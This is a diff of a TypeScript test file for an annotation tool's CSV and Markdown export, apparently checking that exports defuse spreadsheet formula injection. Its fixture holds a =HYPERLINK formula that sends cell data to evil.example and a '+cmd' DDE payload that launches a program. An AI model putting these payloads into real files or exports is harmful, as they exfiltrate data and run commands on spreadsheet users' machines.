@@ -1,21 +1,18 @@
 import { describe, expect, it } from 'vitest';
-import { createCodingServices, type Annotation } from '../../../electron/core/annotations';
+import { createCodingServices } from '../../../electron/core/annotations';
 import { exportAnnotationsCsv, exportAnnotationsMarkdown } from '../../../electron/core/annotations/export';
-import type { TopicsData } from '../../../electron/core/topics';
-import { MemoryCollection } from '../annotations/helpers/memory-collection';
+import { useCodingWorkspaces } from '../annotations/helpers/coding-workspace';
 import { paragraphsToPassages, TestCorpus } from '../annotations/helpers/seed-corpus';
 import { parseCsv } from '../../helpers/csv';
+
+const openCodingWorkspace = useCodingWorkspaces();
 
 /** An imported file whose title, quote and note were written by someone hostile. */
 async function hostileWorkspace() {
   const corpus = new TestCorpus();
   const title = '=HYPERLINK("http://evil.example/?d="&A2,"Open report")';
   corpus.setDocument('imported-1', title, paragraphsToPassages('imported-1', ['+cmd|\'/C calc\'!A0 is what the minutes said.'], ['R1']));
-  const services = createCodingServices({
-    annotations: new MemoryCollection('annotations', { annotations: [] as Annotation[] }),
-    topics: new MemoryCollection<TopicsData>('topics', { topics: [] }),
-    lookup: corpus,
-  });
+  const services = createCodingServices((await openCodingWorkspace()).workspace, corpus);
   const topic = await services.topics.create({ name: '@Trust' });
   await services.annotations.createFromQuote({
     passageId: 'imported-1-p0',
